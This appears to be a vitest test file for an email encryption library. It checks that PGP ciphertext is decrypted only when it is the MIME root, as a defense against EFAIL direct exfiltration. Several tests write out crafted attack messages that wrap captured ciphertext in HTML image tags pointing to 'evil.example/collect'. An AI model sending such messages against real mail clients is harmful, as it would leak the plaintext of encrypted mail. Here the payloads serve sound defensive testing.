// EFAIL direct exfiltration: ciphertext counts only as the MIME root; nested inside other content it is never decrypted.
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { open } from '../../crypto/index.js';
import { known, person, type Person } from '../helpers/keys.js';
import { armoredCiphertext, crlf, detachedSignature, encode } from './craft.js';

const SECRET = 'The launch code is 7741-ALPHA.';

let alice: Person;
let bob: Person;
let mallory: Person;
/** Alice's armored message to Bob, as Mallory captured it on the wire. */
let captured: string;
/** The same as a PGP/MIME multipart/encrypted entity. */
let capturedEntity: string;

beforeAll(async () => {
  [alice, bob, mallory] = await Promise.all([
    person('Alice', 'alice@example.org'),
    person('Bob', 'bob@example.org'),
    person('Mallory', 'mallory@evil.example'),
  ]);
  captured = await armoredCiphertext(`Content-Type: text/plain; charset=us-ascii\r\n\r\n${SECRET}\r\n`, bob.publicKey, { signingKey: alice.privateKey });
  capturedEntity = crlf`
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"

--enc
Content-Type: application/pgp-encrypted

Version: 1

--enc
Content-Type: application/octet-stream; name="encrypted.asc"

${captured}
--enc--
`;
});

const HEADER = crlf`
From: Alice <alice@example.org>
To: Bob <bob@example.org>
Subject: Re: launch
MIME-Version: 1.0
`;

async function openAsBob(message: string) {
  const decryptionKeys = vi.fn(async () => [bob.privateKey]);
  const report = await open({ message: encode(message), verificationKeys: known(alice, mallory), decryptionKeys });
  return { report, decryptionKeys };
}

function expectNothingDecrypted(result: Awaited<ReturnType<typeof openAsBob>>): void {
  expect(result.decryptionKeys).not.toHaveBeenCalled();
  expect(result.report.encryption.state).toBe('none');
  expect(JSON.stringify(result.report)).not.toContain('7741');
}

describe('encrypted content that is not the MIME root', () => {
  it('is decrypted when it is the root (the control: the captured ciphertext is genuine)', async () => {
    const { report, decryptionKeys } = await openAsBob(HEADER + capturedEntity);
    expect(decryptionKeys).toHaveBeenCalledTimes(1);
    expect(report.encryption.state).toBe('encrypted');
    expect(report.text).toContain(SECRET);
  });

  it('is not decrypted between two HTML parts that would send its plaintext to the attacker, and the part is named', async () => {
    const result = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/html

<img src="https://evil.example/collect?
--outer
${capturedEntity}
--outer
Content-Type: text/html

">
--outer--
`);
    expectNothingDecrypted(result);
    expect(result.report.warnings).toContain(
      'part 2 is encrypted but is not the whole message; it was not decrypted (it could leak its plaintext to whoever wrapped it)',
    );
  });

  it('is not decrypted when an inline PGP block sits among other text of a text/plain message', async () => {
    const result = await openAsBob(crlf`
${HEADER}Content-Type: text/plain; charset=us-ascii

Please confirm the code below by return mail:

${captured}

Thanks, Mallory
`);
    expectNothingDecrypted(result);
    expect(result.report.warnings).toContain('the text holds an inline encrypted block among other text; it was not decrypted');
  });

  it('is not decrypted when an inline PGP block is a text/plain part beside an HTML part', async () => {
    const result = await openAsBob(crlf`
${HEADER}Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: text/plain; charset=us-ascii

${captured}
--outer
Content-Type: text/html

<img src="https://evil.example/collect">
--outer--
`);
    expectNothingDecrypted(result);
    expect(result.report.warnings).toContain('part 1 holds an inline encrypted block inside a larger message; it was not decrypted');
  });

  it('is not decrypted inside an HTML body', async () => {
    expectNothingDecrypted(
      await openAsBob(crlf`
${HEADER}Content-Type: text/html; charset=us-ascii

<img src="https://evil.example/collect?<pre>
${captured}
</pre>">
`),
    );
  });

  it('is not decrypted when it is the signed content of a multipart/signed message', async () => {
    const result = await openAsBob(crlf`
${HEADER}Content-Type: multipart/signed; micalg=pgp-sha512; protocol="application/pgp-signature"; boundary="sig"

--sig
${capturedEntity}
--sig
Content-Type: application/pgp-signature

${await detachedSignature(capturedEntity, mallory.privateKey)}
--sig--
`);
    expectNothingDecrypted(result);
    expect(result.report.warnings.some((w) => /^part 1\b.* not decrypted/.test(w))).toBe(true);
  });

  it('is not decrypted when an attacker re-encrypts it to Bob inside a message of their own', async () => {
    // The outer layer is the root and is decrypted; the captured ciphertext inside it must stay sealed.
    const outer = crlf`
Content-Type: multipart/mixed; boundary="inner"

--inner
Content-Type: text/plain; charset=us-ascii

Hi Bob, see the attached note.
--inner
${capturedEntity}
--inner--
`;
    const { report, decryptionKeys } = await openAsBob(crlf`
From: Mallory <mallory@evil.example>
To: Bob <bob@example.org>
Subject: note
MIME-Version: 1.0
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"

--enc
Content-Type: application/pgp-encrypted

Version: 1

--enc
Content-Type: application/octet-stream

${await armoredCiphertext(outer, bob.publicKey)}
--enc--
`);
    expect(decryptionKeys).toHaveBeenCalledTimes(1);
    expect(report.encryption.state).toBe('encrypted');
    expect(report.text).toContain('Hi Bob, see the attached note.');
    expect(JSON.stringify(report)).not.toContain('7741');
    expect(report.warnings.some((w) => /^part 2 is encrypted\b.* not decrypted/.test(w))).toBe(true);
  });
});
